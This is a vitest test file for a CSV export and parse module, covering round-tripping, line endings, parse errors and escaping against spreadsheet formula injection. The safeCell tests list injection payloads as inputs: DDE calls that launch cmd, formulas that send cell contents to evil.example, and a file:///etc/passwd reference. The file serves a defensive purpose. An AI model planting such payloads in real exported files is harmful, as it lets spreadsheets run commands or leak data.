import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { message } from '../words/words.ts'
import { csvLine, CsvError, parseCsv, safeCell, toCsv, unsafeCell } from './csv.ts'

const LIMIT = 1000
const cellsOf = (text: string) => parseCsv(text, LIMIT).map(({ cells }) => cells)

describe('toCsv and parseCsv', () => {
  it('give back every table of text', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '中', ' ', "'", '=') })
    // A line of nothing but blanks is no row; one cell keeps each row from being that.
    const row = fc.array(cell, { maxLength: 4 }).map((cells) => ['x', ...cells])
    fc.assert(
      fc.property(fc.array(row, { maxLength: 5 }), (rows) => {
        const read = cellsOf(toCsv(rows)).map((cells) => cells.map(unsafeCell))
        expect(read).toEqual(rows)
      }),
    )
  })

  it('never fail but by a CsvError', () => {
    const text = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '\uFEFF') })
    const outcome = (value: string) => {
      try {
        return cellsOf(value).every((row) => row.length > 0)
      } catch (error) {
        return error instanceof CsvError
      }
    }
    fc.assert(
      fc.property(text, (value) => {
        expect(outcome(value)).toBe(true)
      }),
    )
  })

  it('begin with a byte-order mark and end lines by CRLF', () => {
    expect(
      toCsv([
        ['甲', 1],
        ['a"b', 'c,d'],
      ]),
    ).toBe('\uFEFF甲,1\r\n"a""b","c,d"\r\n')
  })
})

describe('parseCsv', () => {
  it('reads any line end, quotes, and a last line without one', () => {
    expect(cellsOf('a,b\n"c\r\nd",""\r\ne,')).toEqual([
      ['a', 'b'],
      ['c\r\nd', ''],
      ['e', ''],
    ])
  })

  it('leaves out blank rows, and numbers the others as a spreadsheet does', () => {
    expect(parseCsv('\r\n"a\nb"\r\n , \r\n\nc', LIMIT)).toEqual([
      { number: 2, cells: ['a\nb'] },
      { number: 5, cells: ['c'] },
    ])
    expect(parseCsv('', LIMIT)).toEqual([])
  })

  it.each([
    ['a\n"b', message('fields.csvQuoteOpen', { line: 2 })],
    ['"a"b', message('fields.csvAfterQuote', { line: 1 })],
    ['a\nb\nc\n', message('fields.csvTooLong', { max: 2 })],
  ])('refuses %j', (text, said) => {
    expect(() => parseCsv(text, 2)).toThrow(expect.objectContaining({ said }))
  })
})

describe('safeCell', () => {
  it.each([
    '=1+1',
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "='file:///etc/passwd'#$x.A1",
    '=DDE("cmd","/c calc","x")',
    '+1',
    "+cmd|'/c calc'!A0",
    '-1',
    "-2+3+cmd|'/c calc'!A0",
    '@SUM(A1)',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "'=1+1",
    "''=1+1",
  ])('keeps a spreadsheet from running %j', (text) => {
    expect(safeCell(text)).toBe(`'${text}`)
    expect(unsafeCell(safeCell(text))).toBe(text)
  })

  it.each(['x";=1+1', 'x;=1+1', 'x\t=1+1', 'x,=1+1', 'x\r\n=1+1', '",=1+1'])('lets no cell begin within %j', (text) => {
    const line = csvLine([text, 'end'])
    expect(line).toBe(`"${text.replaceAll('"', '""')}",end\r\n`)
    expect(cellsOf(line)).toEqual([[text, 'end']])
  })

  it('lets numbers, and text that is none of these, be', () => {
    expect(csvLine([-1, 'a=b', "'x"])).toBe("-1,a=b,'x\r\n")
    expect(unsafeCell("'x")).toBe("'x")
  })
})
